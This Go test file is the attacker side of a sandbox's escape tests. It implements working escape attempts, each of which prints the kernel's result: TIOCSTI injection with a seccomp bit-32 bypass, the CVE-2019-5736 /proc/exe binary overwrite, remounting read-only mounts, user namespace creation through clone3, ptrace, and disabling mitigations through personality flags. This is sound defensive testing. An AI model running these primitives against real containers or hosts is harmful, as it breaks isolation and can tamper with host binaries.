package test

// The attacker side of the escape tests (escape_test.go): one toolbox tool,
// "escape", whose subcommands each make one real escape attempt with raw
// syscalls and print what the kernel answered, one fact per line ("kill
// ESRCH", "read ok", "input \"...\""). The same code runs inside sbx and in
// a plain unshare baseline, so the two outputs can be compared. Every
// subcommand exits 0 when it ran, whatever the attempt gave.

import (
	"errors"
	"fmt"
	"os"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func init() {
	tools["escape"] = escapeTool
}

// escapeCommands are the subcommands of the escape tool.
var escapeCommands = map[string]func(args []string) error{
	"tiocsti":     escapeTIOCSTI,
	"keys":        escapeKeys,
	"ptrace":      escapePtrace,
	"kill":        escapeKill,
	"read":        escapeRead,
	"write":       escapeWrite,
	"create":      escapeCreate,
	"exe-running": escapeExeRunning,
	"exe-init":    escapeExeInit,
	"setgroups":   escapeSetgroups,
	"unmask":      escapeUnmask,
	"remount":     escapeRemount,
	"ids":         escapeIDs,
	"userns":      escapeUserns,
	"connect":     escapeConnect,
	"userfaultfd": escapeUserfaultfd,
	"perf":        escapePerf,
	"int80":       escapeInt80,
	"personality": escapePersonality,
}

func escapeTool(args []string) int {
	if len(args) == 0 {
		fmt.Fprintln(os.Stderr, "usage: escape COMMAND ARGS... [+ COMMAND ARGS...]")
		return 2
	}
	// "+" separates commands run one after the other in this process.
	for len(args) > 0 {
		n := slices.Index(args, "+")
		if n < 0 {
			n = len(args)
		}
		cmd, ok := escapeCommands[args[0]]
		if !ok {
			fmt.Fprintf(os.Stderr, "escape: unknown command %q\n", args[0])
			return 2
		}
		if err := cmd(args[1:n]); err != nil {
			fmt.Fprintf(os.Stderr, "escape %s: %v\n", args[0], err)
			return 2
		}
		args = args[min(n+1, len(args)):]
	}
	return 0
}

// errnoOrNil turns the errno of a raw syscall into an error.
func errnoOrNil(e unix.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

func escapeArgs(args []string, n int, usage string) error {
	if len(args) != n {
		return fmt.Errorf("usage: %s", usage)
	}
	return nil
}

// escapeTIOCSTI pushes TEXT into its stdin's terminal with TIOCSTI, byte by
// byte; with "high" the request has bit 32 set, which the kernel drops (it
// reads the request as an int) but a filter comparing 64 bits would not
// (CVE-2019-10063). It then waits half a second for input on stdin and
// prints "tiocsti RESULT" and "input QUOTED" or "input none". With
// "take-ctty" it first makes that terminal its controlling terminal, in a
// new session ("ctty RESULT").
func escapeTIOCSTI(args []string) error {
	if len(args) == 3 && args[2] == "take-ctty" {
		// A session of its own, with stdin's terminal as its controlling
		// terminal: what the kernel asks of TIOCSTI without CAP_SYS_ADMIN.
		// A process group leader (sbx makes the command one) cannot
		// start a session: it moves to its parent's group first, as an
		// attacker would (or it forks).
		if _, err := unix.Setsid(); err == unix.EPERM {
			if pg, err := unix.Getpgid(os.Getppid()); err == nil {
				unix.Setpgid(0, pg)
			}
			unix.Setsid()
		}
		fmt.Printf("ctty %s\n", errnoName(unix.IoctlSetInt(0, unix.TIOCSCTTY, 0)))
	} else if err := escapeArgs(args, 2, "tiocsti TEXT low|high [take-ctty]"); err != nil {
		return err
	}
	req := uint64(unix.TIOCSTI)
	if args[1] == "high" {
		req |= 1 << 32
	}
	var err error
	for i := 0; i < len(args[0]) && err == nil; i++ {
		b := args[0][i]
		_, _, e := unix.Syscall(unix.SYS_IOCTL, 0, uintptr(req), uintptr(unsafe.Pointer(&b)))
		err = errnoOrNil(e)
	}
	fmt.Printf("tiocsti %s\n", errnoName(err))
	fds := []unix.PollFd{{Fd: 0, Events: unix.POLLIN}}
	n, perr := unix.Poll(fds, 500)
	if perr != nil || n == 0 || fds[0].Revents&unix.POLLIN == 0 {
		fmt.Println("input none")
		return nil
	}
	buf := make([]byte, 256)
	n, rerr := unix.Read(0, buf)
	if rerr != nil {
		fmt.Printf("input %s\n", errnoName(rerr))
		return nil
	}
	fmt.Printf("input %q\n", buf[:n])
	return nil
}

// escapeKeys adds a key named DESC to the user keyring and invalidates it
// again when that worked; it prints "add_key RESULT" and "keyctl RESULT"
// (asking for the id of the user keyring).
func escapeKeys(args []string) error {
	if err := escapeArgs(args, 1, "keys DESC"); err != nil {
		return err
	}
	id, err := unix.AddKey("user", args[0], []byte("planted by the sbx escape test"), unix.KEY_SPEC_USER_KEYRING)
	fmt.Printf("add_key %s\n", errnoName(err))
	if err == nil {
		unix.KeyctlInt(unix.KEYCTL_INVALIDATE, id, 0, 0, 0)
	}
	_, err = unix.KeyctlInt(unix.KEYCTL_GET_KEYRING_ID, unix.KEY_SPEC_USER_KEYRING, 0, 0, 0)
	fmt.Printf("keyctl %s\n", errnoName(err))
	return nil
}

// escapePtrace seizes PID with ptrace and prints "ptrace RESULT". The
// tracee is released when the tool exits.
func escapePtrace(args []string) error {
	if err := escapeArgs(args, 1, "ptrace PID"); err != nil {
		return err
	}
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	_, _, e := unix.RawSyscall6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0, 0, 0)
	fmt.Printf("ptrace %s\n", errnoName(errnoOrNil(e)))
	return nil
}

// escapeKill opens a pidfd on PID and sends it signal SIG with kill(2); it
// prints "pidfd_open RESULT" and "kill RESULT".
func escapeKill(args []string) error {
	if err := escapeArgs(args, 2, "kill PID SIG"); err != nil {
		return err
	}
	pid, err1 := strconv.Atoi(args[0])
	sig, err2 := strconv.Atoi(args[1])
	if err := errors.Join(err1, err2); err != nil {
		return err
	}
	fd, err := unix.PidfdOpen(pid, 0)
	fmt.Printf("pidfd_open %s\n", errnoName(err))
	if err == nil {
		unix.Close(fd)
	}
	fmt.Printf("kill %s\n", errnoName(unix.Kill(pid, syscall.Signal(sig))))
	return nil
}

// escapeRead reads each PATH and prints "read PATH RESULT" and, when that
// worked, "data PATH QUOTED".
func escapeRead(args []string) error {
	for _, p := range args {
		b, err := os.ReadFile(p)
		fmt.Printf("read %s %s\n", p, errnoName(err))
		if err == nil {
			fmt.Printf("data %s %q\n", p, b)
		}
	}
	return nil
}

// escapeWrite replaces the contents of existing files, for each pair PATH
// VALUE, and prints "write PATH RESULT". The file is opened without O_TRUNC
// or O_CREAT, so that the answer says whether it may be written at all (the
// file's permissions, then the mount), not whether it may be created.
func escapeWrite(args []string) error {
	if len(args) == 0 || len(args)%2 != 0 {
		return errors.New("usage: write PATH VALUE [PATH VALUE...]")
	}
	for i := 0; i < len(args); i += 2 {
		err := escapeWriteFile(args[i], args[i+1])
		fmt.Printf("write %s %s\n", args[i], errnoName(err))
	}
	return nil
}

func escapeWriteFile(path, value string) error {
	fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if _, err := unix.Write(fd, []byte(value)); err != nil {
		return err
	}
	// A regular file keeps what it had after the new bytes: cut it there.
	var st unix.Stat_t
	if unix.Fstat(fd, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFREG {
		return unix.Ftruncate(fd, int64(len(value)))
	}
	return nil
}

// escapeCreate creates each PATH and prints "create PATH RESULT".
func escapeCreate(args []string) error {
	for _, p := range args {
		fd, err := unix.Open(p, unix.O_WRONLY|unix.O_CREAT|unix.O_EXCL|unix.O_CLOEXEC, 0o644)
		if err == nil {
			unix.Close(fd)
		}
		fmt.Printf("create %s %s\n", p, errnoName(err))
	}
	return nil
}

// escapeExeRunning is the CVE-2019-5736 attack on a binary the user owns:
// once PID runs PATH, it takes an O_PATH handle on /proc/PID/exe, tries to reopen it for
// writing (ETXTBSY while PID runs), kills PID, and keeps reopening the
// handle for two seconds until that works, then overwrites the start of the
// binary with "pwned". It prints "running RESULT", "kill RESULT" and
// "exited RESULT" (the last reopen and write).
func escapeExeRunning(args []string) error {
	if err := escapeArgs(args, 2, "exe-running PID PATH"); err != nil {
		return err
	}
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	exe := fmt.Sprintf("/proc/%d/exe", pid)
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(5 * time.Millisecond) {
		if link, _ := os.Readlink(exe); link == args[1] {
			break
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("%s does not run %s", exe, args[1])
		}
	}
	h, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
	fmt.Printf("handle %s\n", errnoName(err))
	if err != nil {
		return nil
	}
	reopen := fmt.Sprintf("/proc/self/fd/%d", h)
	write := func() error {
		fd, err := unix.Open(reopen, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		_, err = unix.Pwrite(fd, []byte("pwned"), 0)
		return err
	}
	fmt.Printf("running %s\n", errnoName(write()))
	fmt.Printf("kill %s\n", errnoName(unix.Kill(pid, unix.SIGKILL)))
	for deadline := time.Now().Add(2 * time.Second); ; time.Sleep(10 * time.Millisecond) {
		err = write()
		if err == nil || time.Now().After(deadline) {
			break
		}
	}
	fmt.Printf("exited %s\n", errnoName(err))
	return nil
}

// escapeExeInit attacks the sandbox's pid 1, which runs sbx: it opens
// /proc/1/exe for writing, then takes an O_PATH handle on it and reopens
// that for writing, and prints "open RESULT", "handle RESULT" and "reopen
// RESULT". A successful open writes nothing: the test checks the binary's
// hash, and the open alone is the escape.
func escapeExeInit(args []string) error {
	if err := escapeArgs(args, 0, "exe-init"); err != nil {
		return err
	}
	fd, err := unix.Open("/proc/1/exe", unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err == nil {
		unix.Close(fd)
	}
	fmt.Printf("open %s\n", errnoName(err))
	h, err := unix.Open("/proc/1/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
	fmt.Printf("handle %s\n", errnoName(err))
	if err != nil {
		return nil
	}
	fd, err = unix.Open(fmt.Sprintf("/proc/self/fd/%d", h), unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err == nil {
		unix.Close(fd)
	}
	fmt.Printf("reopen %s\n", errnoName(err))
	return nil
}

// escapeSetgroups drops every supplementary group with setgroups(0, NULL),
// then reads FILE, which a group it had denies it. It prints "setgroups
// RESULT" and "read RESULT". Both happen on one locked thread: the raw
// syscall changes only the calling thread's groups.
func escapeSetgroups(args []string) error {
	if err := escapeArgs(args, 1, "setgroups FILE"); err != nil {
		return err
	}
	runtime.LockOSThread()
	_, _, e := unix.RawSyscall(unix.SYS_SETGROUPS, 0, 0, 0)
	fmt.Printf("setgroups %s\n", errnoName(errnoOrNil(e)))
	fd, err := unix.Open(args[0], unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err == nil {
		buf := make([]byte, 4096)
		_, err = unix.Read(fd, buf)
		unix.Close(fd)
	}
	fmt.Printf("read %s\n", errnoName(err))
	return nil
}

// escapeUnmask tries to uncover the masked file PATH under /proc (umount)
// and to hide the read-only /proc/sys under a fresh, writable tmpfs, then
// looks at PATH. It prints "umount RESULT", "mount RESULT" and "masked FS":
// "proc" for proc's own file, else the magic number of the filesystem that
// covers it, or an errno. With "mask-first" (the baseline, which has no
// mask) it first masks PATH itself, the way a sandbox does, with /dev/null
// bound over it: "mask RESULT".
func escapeUnmask(args []string) error {
	if len(args) == 0 || len(args) > 2 || len(args) == 2 && args[1] != "mask-first" {
		return errors.New("usage: unmask PATH [mask-first]")
	}
	path := args[0]
	if len(args) == 2 {
		fmt.Printf("mask %s\n", errnoName(unix.Mount("/dev/null", path, "", unix.MS_BIND, "")))
	}
	fmt.Printf("umount %s\n", errnoName(unix.Unmount(path, unix.MNT_DETACH)))
	fmt.Printf("mount %s\n", errnoName(unix.Mount("tmpfs", "/proc/sys", "tmpfs", 0, "")))
	var st unix.Statfs_t
	err := unix.Statfs(path, &st)
	switch {
	case err != nil:
		fmt.Printf("masked %s\n", errnoName(err))
	case st.Type == unix.PROC_SUPER_MAGIC:
		fmt.Println("masked proc")
	default:
		fmt.Printf("masked fs%#x\n", st.Type)
	}
	return nil
}

// escapeRemount makes the read-only mount at DIR writable again, both ways:
// mount_setattr(2) clearing MOUNT_ATTR_RDONLY, and a bind remount with
// mount(2) that keeps the mount's other flags. Then it replaces the
// contents of DIR/FILE. It prints "mount_setattr RESULT", "remount RESULT"
// and "write RESULT".
func escapeRemount(args []string) error {
	if err := escapeArgs(args, 2, "remount DIR FILE"); err != nil {
		return err
	}
	dir := args[0]
	attr := unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
	err := unix.MountSetattr(unix.AT_FDCWD, dir, 0, &attr)
	fmt.Printf("mount_setattr %s\n", errnoName(err))
	var st unix.Statfs_t
	if err := unix.Statfs(dir, &st); err != nil {
		return err
	}
	flags := uintptr(unix.MS_REMOUNT | unix.MS_BIND)
	for _, f := range []struct{ st, ms uintptr }{
		{unix.ST_NOSUID, unix.MS_NOSUID}, {unix.ST_NODEV, unix.MS_NODEV},
		{unix.ST_NOEXEC, unix.MS_NOEXEC}, {unix.ST_NOATIME, unix.MS_NOATIME},
		{unix.ST_NODIRATIME, unix.MS_NODIRATIME}, {unix.ST_RELATIME, unix.MS_RELATIME},
	} {
		if uintptr(st.Flags)&f.st != 0 {
			flags |= f.ms
		}
	}
	fmt.Printf("remount %s\n", errnoName(unix.Mount("", dir, "", flags, "")))
	fmt.Printf("write %s\n", errnoName(escapeWriteFile(dir+"/"+args[1], "pwned")))
	return nil
}

// escapeIDs prints "euid N" and "capeff HEX" (from /proc/self/status).
func escapeIDs(args []string) error {
	if err := escapeArgs(args, 0, "ids"); err != nil {
		return err
	}
	fmt.Printf("euid %d\n", os.Geteuid())
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return err
	}
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, "CapEff:"); ok {
			fmt.Printf("capeff %s\n", strings.TrimSpace(v))
		}
	}
	return nil
}

// escapeCloneArgs is struct clone_args of clone3(2), as far as it is used.
type escapeCloneArgs struct {
	flags, pidfd, childTID, parentTID, exitSignal, stack, stackSize, tls uint64
}

// escapeUserns creates a user namespace three ways and prints one line
// each: "unshare RESULT" (unshare(2) in this multi-threaded process, which
// the kernel refuses with EINVAL before anything else, so only a filter's
// answer tells something), "clone RESULT" (a child running /bin/true in a
// new user namespace, made with clone(2)) and "clone3 RESULT" (the same
// with clone3(2), whose flags a seccomp filter cannot see).
func escapeUserns(args []string) error {
	if err := escapeArgs(args, 0, "userns"); err != nil {
		return err
	}
	_, _, e := unix.RawSyscall(unix.SYS_UNSHARE, unix.CLONE_NEWUSER, 0, 0)
	fmt.Printf("unshare %s\n", errnoName(errnoOrNil(e)))

	pid, err := syscall.ForkExec("/bin/true", []string{"true"}, &syscall.ProcAttr{
		Sys: &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER},
	})
	if err == nil {
		err = escapeWait(pid)
	}
	fmt.Printf("clone %s\n", errnoName(err))

	ca := escapeCloneArgs{flags: unix.CLONE_NEWUSER, exitSignal: uint64(unix.SIGCHLD)}
	r, _, e := unix.RawSyscall(unix.SYS_CLONE3, uintptr(unsafe.Pointer(&ca)), unsafe.Sizeof(ca), 0)
	if e == 0 && r == 0 {
		// The child: a copy of this one thread. Leave at once.
		unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
	}
	err = errnoOrNil(e)
	if err == nil {
		err = escapeWait(int(r))
	}
	fmt.Printf("clone3 %s\n", errnoName(err))
	return nil
}

func escapeWait(pid int) error {
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, 0, nil); err != nil {
		return err
	}
	if !ws.Exited() || ws.ExitStatus() != 0 {
		return fmt.Errorf("child_status_%#x", uint32(ws))
	}
	return nil
}

// escapeConnect connects to the unix socket NAME (@ for abstract) and
// prints "connect RESULT".
func escapeConnect(args []string) error {
	if err := escapeArgs(args, 1, "connect NAME"); err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	fmt.Printf("connect %s\n", errnoName(unix.Connect(fd, &unix.SockaddrUnix{Name: args[0]})))
	return nil
}

// uffdUserModeOnly is UFFD_USER_MODE_ONLY: a userfaultfd that handles
// faults in user space only, which vm.unprivileged_userfaultfd=0 still
// allows to anyone.
const uffdUserModeOnly = 1

// escapeUserfaultfd prints "userfaultfd RESULT".
func escapeUserfaultfd(args []string) error {
	if err := escapeArgs(args, 0, "userfaultfd"); err != nil {
		return err
	}
	fd, _, e := unix.Syscall(unix.SYS_USERFAULTFD, unix.O_CLOEXEC|uffdUserModeOnly, 0, 0)
	if e == 0 {
		unix.Close(int(fd))
	}
	fmt.Printf("userfaultfd %s\n", errnoName(errnoOrNil(e)))
	return nil
}

// escapePerf opens a software perf event on itself, user space only (what
// kernel.perf_event_paranoid=2 still allows), and prints
// "perf_event_open RESULT".
func escapePerf(args []string) error {
	if err := escapeArgs(args, 0, "perf"); err != nil {
		return err
	}
	attr := unix.PerfEventAttr{
		Type:   unix.PERF_TYPE_SOFTWARE,
		Config: unix.PERF_COUNT_SW_TASK_CLOCK,
		Bits:   unix.PerfBitDisabled | unix.PerfBitExcludeKernel | unix.PerfBitExcludeHv,
	}
	attr.Size = uint32(unsafe.Sizeof(attr))
	fd, err := unix.PerfEventOpen(&attr, 0, -1, -1, unix.PERF_FLAG_FD_CLOEXEC)
	if err == nil {
		unix.Close(fd)
	}
	fmt.Printf("perf_event_open %s\n", errnoName(err))
	return nil
}

// escapeInt80 makes getpid through the 32-bit entry point (int 0x80, i386
// syscall 20) and prints "int80 PID" or "int80 ERRNO", and "getpid PID"
// from the 64-bit one. Only x86-64 has it: elsewhere "int80 none".
func escapeInt80(args []string) error {
	if err := escapeArgs(args, 0, "int80"); err != nil {
		return err
	}
	if !haveInt80 {
		fmt.Println("int80 none")
		return nil
	}
	const i386Getpid = 20
	r := int32(uint32(int80(i386Getpid)))
	if r < 0 && r > -4096 {
		fmt.Printf("int80 %s\n", errnoName(unix.Errno(-r)))
	} else {
		fmt.Printf("int80 %d\n", r)
	}
	fmt.Printf("getpid %d\n", os.Getpid())
	return nil
}

// Personality flags that switch off exploit mitigations of the process.
const (
	perReadImpliesExec  = 0x0400000
	perAddrNoRandomize  = 0x0040000
	personalityQuerying = 0xffffffff
)

// escapePersonality sets READ_IMPLIES_EXEC, then ADDR_NO_RANDOMIZE, then
// queries the personality, and prints "personality NAME RESULT" for each.
func escapePersonality(args []string) error {
	if err := escapeArgs(args, 0, "personality"); err != nil {
		return err
	}
	for _, p := range []struct {
		name string
		val  uintptr
	}{
		{"READ_IMPLIES_EXEC", perReadImpliesExec},
		{"ADDR_NO_RANDOMIZE", perAddrNoRandomize},
		{"query", personalityQuerying},
	} {
		_, _, e := unix.RawSyscall(unix.SYS_PERSONALITY, p.val, 0, 0)
		fmt.Printf("personality %s %s\n", p.name, errnoName(errnoOrNil(e)))
	}
	return nil
}
